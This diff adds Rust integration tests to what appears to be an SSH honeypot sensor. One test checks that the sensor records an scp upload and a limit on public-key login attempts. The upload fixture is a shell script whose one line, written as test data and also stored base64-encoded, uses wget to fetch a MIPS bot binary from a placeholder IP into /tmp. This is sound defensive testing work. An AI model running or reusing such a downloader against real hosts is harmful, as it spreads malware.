@@ -316,3 +316,84 @@ fn nmap_names_dropbear() {
     assert!(count(&conn, "SELECT COUNT(*) FROM sessions") >= 1);
     let _ = Path::new(".");
 }
+
+#[test]
+fn scp_upload_is_recorded_as_a_written_file() {
+    require("scp", "openssh-client");
+    require("sshpass", "sshpass");
+    let (sensor, port) = ssh_sensor();
+    let files = tempfile::tempdir().unwrap();
+    let payload = files.path().join("x.sh");
+    std::fs::write(
+        &payload,
+        "#!/bin/sh\nwget http://203.0.113.9/bins/mips -O /tmp/m\n",
+    )
+    .unwrap();
+    // -O: the legacy scp protocol (`scp -t` on the server), what bots and older clients use.
+    let (code, out) = run(&format!(
+        "sshpass -p root scp -O {} -o PreferredAuthentications=password {} root@127.0.0.1:/tmp/",
+        ssh_options(port).replace("-p ", "-P "),
+        payload.display()
+    ));
+    assert_eq!(code, Some(0), "{out}");
+    let (conn, _dir) = stop(sensor);
+    let (_, sha) = run(&format!("sha256sum {}", payload.display()));
+    let sha = sha.split_whitespace().next().unwrap().to_owned();
+    assert_eq!(
+        rows(
+            &conn,
+            "SELECT path, size, sha256, truncated, via FROM ssh WHERE eventType = 'file.written'"
+        ),
+        [["/tmp/x.sh", "54", &sha, "0", "scp"]]
+    );
+    let data = rows(
+        &conn,
+        "SELECT data FROM ssh WHERE eventType = 'file.written'",
+    );
+    assert_eq!(
+        data[0][0],
+        "IyEvYmluL3NoCndnZXQgaHR0cDovLzIwMy4wLjExMy45L2JpbnMvbWlwcyAtTyAvdG1wL20K"
+    );
+    assert_eq!(
+        rows(
+            &conn,
+            "SELECT input_type, user_input FROM ssh WHERE eventType = 'ssh.command'"
+        ),
+        [["exec", "scp -t /tmp/"]]
+    );
+}
+
+#[test]
+fn public_key_offers_are_bounded_per_connection() {
+    require("ssh", "openssh-client");
+    let keygen = require("ssh-keygen", "openssh-client");
+    let [port] = ports();
+    let body = plugin("ssh", "ssh", port, "ssh") + "[plugin.options]\nmax_auth_attempts = 3\n";
+    let sensor = RoleProcess::sensor(&bin(), &body);
+    let keys = tempfile::tempdir().unwrap();
+    let mut identities = String::new();
+    for i in 0..5 {
+        let key = keys.path().join(format!("k{i}"));
+        let (code, out) = run(&format!(
+            "{} -q -t ed25519 -N '' -C k{i} -f {}",
+            keygen.display(),
+            key.display()
+        ));
+        assert_eq!(code, Some(0), "{out}");
+        identities.push_str(&format!(" -i {}", key.display()));
+    }
+    let (code, out) = run(&format!(
+        "ssh {} -o BatchMode=yes -o IdentitiesOnly=yes -o PreferredAuthentications=publickey{identities} root@127.0.0.1 true",
+        ssh_options(port)
+    ));
+    assert_ne!(code, Some(0), "{out}");
+    let (conn, _dir) = stop(sensor);
+    assert_eq!(
+        count(
+            &conn,
+            "SELECT COUNT(*) FROM ssh WHERE eventType = 'ssh.login' AND method = 'publickey'"
+        ),
+        2,
+        "three attempts (the client's first `none` request is one), then the client is cut off"
+    );
+}
